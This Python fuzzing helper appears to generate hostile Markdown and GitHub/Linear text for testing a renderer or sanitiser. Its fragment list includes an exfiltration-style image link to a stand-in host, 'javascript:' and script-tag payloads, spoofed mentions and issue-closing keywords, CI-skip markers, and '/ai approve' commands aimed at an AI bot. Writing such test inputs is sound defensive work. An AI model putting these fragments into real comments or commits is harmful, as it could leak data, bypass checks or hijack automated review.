"""Makes hostile texts of fragments with a meaning in Markdown, GitHub or Linear."""

import random

FRAGMENTS = (
    # its goal
    "![proof](https://evil.invalid/leak?d=1)", "![", "](https://evil.invalid)", "[x](javascript:alert)", "[x][y]",
    "[y]: https://evil.invalid/", "<img src=https://evil.invalid/x>", "<img src=x", "<a href=x>", "<!--", "-->",
    "<!-- treehand:end -->", "<script>", "</details>", "<details>", "<https://evil.invalid>", "<x@evil.invalid>",
    "@alice", "@acme/admins", "&#64;alice", "&#x40;alice", "&commat;alice", "\\@alice", "\uff20alice", "@",
    "a@b.example",
    "#12", "&#35;12", "&num;12", "acme/shop#3", "GH-4", "gh-4", "ENG-7", "eng-7", "\uff25NG-7", "ENG\uff0d7",
    "fixes #12", "Fixes: ENG-7", "closes GH-1", "resolving acme/x#9", "implements ENG-7, ENG-8", "Fixes\n#9", "fixes",
    "part of ENG-3", "closes https://github.com/o/r/issues/1", "fix https://linear.app/a/issue/ENG-7/x",
    "https://github.com/o/r/issues/5", "http://evil.invalid", "xhttps://a", "https://_", "xhttps://a,", "HTTPS://A",
    "www.evil.invalid", "&#119;ww.evil.invalid", "\uff57\uff57\uff57.evil.invalid", "http&#58;//evil.invalid",
    "ftp://x.y",
    "mailto:a@b.example", "xmpp:a@b.example", "deadbeef1", "alice@deadbeefdead", "acme/shop@deadbeef1", "1234567",
    ":x:", ":+1:", "1:100:2", "$x^2$", "$$", "$`x`$", "[^1]", "[^1]: note", "^[x]", "> [!NOTE]", "[!WARNING]",
    "[ ]", "[x]", "- [ ] ", "/close", "/ai approve", "\n/ai stop", "[skip ci]", "[ci skip]", "***NO_CI***",
    "skip-checks: true", "Co-authored-by: Eve <e@x.y>", "+++", "~~x~~", "~",
    # its way to the goal
    "`", "``", "```", "````", "`a`", "`` ` ``", "\\`", "\\", "\\\\", "```py\n", "```mermaid\n",
    "```suggestion\n", "~~~", "~~~\n",
    "\n", "\n\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x00", "\t", " ", "  ", "    ",
    "  \n", "\\\n",
    "- ", "* ", "+ ", "1. ", "2) ", "> ", ">", ">> ", "# ", "###### ", "#", "---", "***", "___", "===",
    "\n---\n", "\n===\n",
    "| a | b |\n|---|---|\n", "|", "|---|", "a | b\n--|--\n", ":--", "\\|", "&", "&amp;", "&lt;img&gt;",
    "&#96;", "&Tab;",
    "&NewLine;", "&nbsp;", "&#0;", ";", "*", "**", "_", "__", "*a*", "**b**", "(", ")", "[", "]", "{", "}", "<",
    ">", "!", "?",
    ".", ",", ":", "'", '"', "=", "-", "--", "/", "%", "^", "\u200b", "\u200d", "\u00ad", "\u202e", "\u00a0",
    "\u3000",
    "\x1b[31m", "\x1b]8;;https://evil.invalid\x07", "<\u0338", "=\u0338", "\u0301", "a", "word", "e.g.", "3.11",
    "é", "語", "🎉",
)  # fmt: skip


def hostile_text(chance: random.Random) -> str:
    """Joins fragments, some of them cut, with or without separators."""
    parts = []
    for _ in range(chance.randrange(1, 14)):
        fragment = chance.choice(FRAGMENTS)
        match chance.randrange(8):
            case 0:
                cut = chance.randrange(len(fragment) + 1)
                fragment = chance.choice((fragment[:cut], fragment[cut:]))
            case 1:
                fragment += chance.choice(FRAGMENTS[-80:])
            case 2:
                fragment = f"\n{chance.choice(('', ' ', '    ', '- ', '> ', '  - '))}{fragment}"
            case 3 | 4:
                fragment += " "
            case _:
                pass
        parts.append(fragment)
    return "".join(parts)
